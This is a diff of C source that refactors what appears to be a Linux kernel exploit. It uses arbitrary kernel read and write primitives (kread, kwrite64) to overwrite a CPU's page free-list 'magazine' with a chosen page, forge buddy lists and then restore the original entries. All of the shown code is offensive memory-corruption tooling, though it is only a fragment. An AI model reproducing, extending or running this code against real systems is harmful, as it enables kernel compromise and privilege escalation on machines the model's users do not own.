@@ -16,9 +16,8 @@
 /* struct page: flags, lru.next, lru.prev, ..., _refcount */
 #define PAGE_LRU	8
 #define PAGE_REFCOUNT	52
-#define WORDS		(PAGE_SIZE / sizeof(uint64_t))
 #define TRIES		16
-#define POOL_BASE	0x520000000000UL
+#define POOL_PART	0x52
 
 struct page {
 	uint64_t addr;		/* direct map */
@@ -58,13 +57,13 @@ static int forge_buddy_list(const struct page *ours)
 /* Words of this CPU's state that are addresses of whole pages: the magazine. */
 static int forge_magazine(uint64_t state, uint64_t ours, uint64_t *words)
 {
-	uint64_t base = direct_map_base();
+	uint64_t base = direct_map_base(), limit = 1UL << (address_bits() - 4);
 	int err = -ENOENT;
 	size_t i;
 
 	kread(state, words, PAGE_SIZE);
-	for (i = 0; i < WORDS; i++) {
-		if (words[i] <= base || words[i] - base > 1UL << 44 || words[i] % PAGE_SIZE)
+	for (i = 0; i < table_entries(); i++) {
+		if (words[i] <= base || words[i] - base > limit || words[i] % PAGE_SIZE)
 			continue;
 		err = kwrite64(state + i * sizeof(*words), ours);
 		if (err)
@@ -77,7 +76,7 @@ static void restore_magazine(uint64_t state, uint64_t ours, const uint64_t *word
 {
 	size_t i;
 
-	for (i = 0; i < WORDS; i++)
+	for (i = 0; i < table_entries(); i++)
 		if (words[i] != ours && kread64(state + i * sizeof(*words)) == ours)
 			kwrite64(state + i * sizeof(*words), words[i]);
 }
@@ -133,8 +132,8 @@ static void pin_to_cpu(int cpu)
 
 enum outcome pool_free_list(void)
 {
-	static uint64_t words[WORDS];
-	volatile char *base = sparse_region(POOL_BASE, TRIES, PROT_READ);
+	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
+	volatile char *base = sparse_region(user_room(POOL_PART), TRIES, PROT_READ);
 	uint64_t state, on = 0;
 	enum outcome outcome;
 	struct page ours;
